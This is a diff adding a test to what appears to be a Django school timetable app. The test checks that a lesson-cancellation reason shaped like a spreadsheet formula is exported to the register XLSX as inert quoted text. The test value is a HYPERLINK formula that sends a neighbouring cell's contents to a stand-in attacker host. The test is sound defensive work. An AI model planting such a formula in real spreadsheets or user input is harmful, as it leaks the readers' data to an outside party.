@@ -581,3 +581,17 @@ def test_the_school_home_links_the_pages_for_the_deputy_only(
         session["active_role"] = f"{role}:{c.school.pk}"
         session.save()
         assert (link in client.get(home).content.decode()) is shown
+
+
+def test_a_reason_that_looks_like_a_formula_is_text_in_the_register_xlsx(
+    client: Client, community: Community, day: dict[str, Lesson]
+) -> None:
+    c = community
+    hostile = '=HYPERLINK("http://evil.example/?"&B1,"Деталі")'
+    lesson_cancel(actor=c.deputy, lesson=day["math_1"], reason=hostile)
+    client.force_login(c.deputy)
+    url = reverse("timetable:register_xlsx", args=[c.school.pk])
+    response = client.get(url + "?start=2026-11-01&end=2026-11-30")
+    cell = load_workbook(io.BytesIO(response.content)).worksheets[0]["G5"]
+    assert cell.value == hostile
+    assert cell.data_type == "s" and cell.quotePrefix
